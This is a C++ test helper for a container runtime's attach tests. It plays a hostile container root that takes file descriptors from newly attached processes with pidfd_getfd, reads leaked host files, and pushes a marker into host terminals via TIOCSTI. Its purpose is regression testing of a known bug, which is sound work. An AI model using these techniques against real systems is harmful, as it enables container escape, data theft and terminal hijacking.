// cove-snoop: the attach attack of issue 10, as a hostile container root would run it. Built
// static; the attach tests copy it into a container and start it in the background:
//   cove-snoop SECONDS LOGFILE
// For SECONDS it watches /proc for processes that appear in the container (an attached command
// shows up there between cove-attach's fork and its execve) and, for each new one, tries what
// ptrace access would allow: take every fd it holds with pidfd_getfd(2) (the kernel checks
// PTRACE_MODE_ATTACH_REALCREDS, the same as PTRACE_SEIZE) and for each fd taken
//   - a regular file: log its first bytes (`file PID FD TEXT`): a host file leaked in;
//   - a terminal that is not one of this container's own: log `hosttty PID FD` and push a
//     harmless marker into its input with TIOCSTI (`tiocsti PID FD ok|errno N`): the admin's
//     terminal handed in.
// Each process it could reach at all is logged as `access PID` (after execve that is normal:
// the command is then the container's own process; before it, it is the bug).
// Refuses to run outside a container, like cove-probe.
#include <dirent.h>
#include <fcntl.h>
#include <sys/ioctl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <time.h>
#include <unistd.h>

#include <cerrno>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <set>
#include <string>

namespace {

constexpr ino_t kInitPidNs = 0xEFFFFFFCU;

std::set<int> current_pids() {
  std::set<int> out;
  DIR* d = ::opendir("/proc");
  if (!d) return out;
  while (struct dirent* e = ::readdir(d)) {
    char* end = nullptr;
    long pid = std::strtol(e->d_name, &end, 10);
    if (end && *end == '\0' && pid > 0) out.insert(static_cast<int>(pid));
  }
  ::closedir(d);
  return out;
}

double now_s() {
  struct timespec ts;
  ::clock_gettime(CLOCK_MONOTONIC, &ts);
  return double(ts.tv_sec) + double(ts.tv_nsec) / 1e9;
}

void log_line(FILE* log, const std::string& line) {
  std::fprintf(log, "%s\n", line.c_str());
  std::fflush(log);
}

// The filesystems of the container's own terminals: its devpts and whatever /dev/console and
// /dev/ttyN are (binds or links of its ptys), and /dev/tty (an open of it is the opener's own
// controlling terminal, on the node's filesystem). A terminal elsewhere is the host's.
std::set<dev_t> own_tty_devs() {
  std::set<dev_t> out;
  struct stat st;
  for (const char* p : {"/dev/pts/ptmx", "/dev/console", "/dev/tty", "/dev/tty1", "/dev/tty2", "/dev/tty3", "/dev/tty4"})
    if (::stat(p, &st) == 0) out.insert(st.st_dev);
  return out;
}

// Everything this process can take from `pid`'s fd table.
void raid(FILE* log, int pid, const std::set<dev_t>& own_ttys) {
  int pidfd = static_cast<int>(::syscall(SYS_pidfd_open, pid, 0));
  if (pidfd < 0) return;
  bool reached = false;
  for (int fd = 0; fd < 64; ++fd) {
    int got = static_cast<int>(::syscall(SYS_pidfd_getfd, pidfd, fd, 0));
    if (got < 0) {
      if (errno == EPERM) break;  // no ptrace access: nothing else will work either
      continue;
    }
    if (!reached) {
      char comm[64] = {};
      int c = ::open(("/proc/" + std::to_string(pid) + "/comm").c_str(), O_RDONLY | O_CLOEXEC);
      if (c >= 0) {
        ssize_t n = ::read(c, comm, sizeof comm - 1);
        if (n > 0 && comm[n - 1] == '\n') comm[n - 1] = '\0';
        ::close(c);
      }
      log_line(log, "access " + std::to_string(pid) + " " + comm);
    }
    reached = true;
    struct stat st;
    if (::fstat(got, &st) == 0) {
      if (S_ISREG(st.st_mode) && fd > 2) {
        char buf[128] = {};
        ssize_t n = ::pread(got, buf, sizeof buf - 1, 0);
        for (ssize_t i = 0; i < n; ++i)
          if (buf[i] == '\n') buf[i] = ' ';
        log_line(log, "file " + std::to_string(pid) + " " + std::to_string(fd) + " " + (n > 0 ? buf : ""));
      } else if (S_ISCHR(st.st_mode) && ::isatty(got) && !own_ttys.count(st.st_dev)) {
        log_line(log, "hosttty " + std::to_string(pid) + " " + std::to_string(fd));
        const char marker[] = "#cove-snoop\n";
        bool ok = true;
        for (const char* c = marker; *c && ok; ++c) ok = ::ioctl(got, TIOCSTI, c) == 0;
        log_line(log, "tiocsti " + std::to_string(pid) + " " + std::to_string(fd) +
                          (ok ? " ok" : " errno " + std::to_string(errno)));
      }
    }
    ::close(got);
  }
  ::close(pidfd);
}

}  // namespace

int main(int argc, char** argv) {
  struct stat ns;
  if (::stat("/proc/self/ns/pid", &ns) < 0 || ns.st_ino == kInitPidNs) {
    std::fprintf(stderr, "cove-snoop: refusing to run outside a container\n");
    return 99;
  }
  if (argc != 3) {
    std::fprintf(stderr, "usage: cove-snoop SECONDS LOGFILE\n");
    return 2;
  }
  double until = now_s() + std::atof(argv[1]);
  FILE* log = std::fopen(argv[2], "w");
  if (!log) return 1;
  std::set<dev_t> own_ttys = own_tty_devs();
  std::set<int> seen = current_pids();
  seen.insert(::getpid());
  log_line(log, "ready");
  while (now_s() < until) {
    for (int pid : current_pids()) {
      if (!seen.insert(pid).second) continue;
      raid(log, pid, own_ttys);
    }
  }
  log_line(log, "done");
  return 0;
}
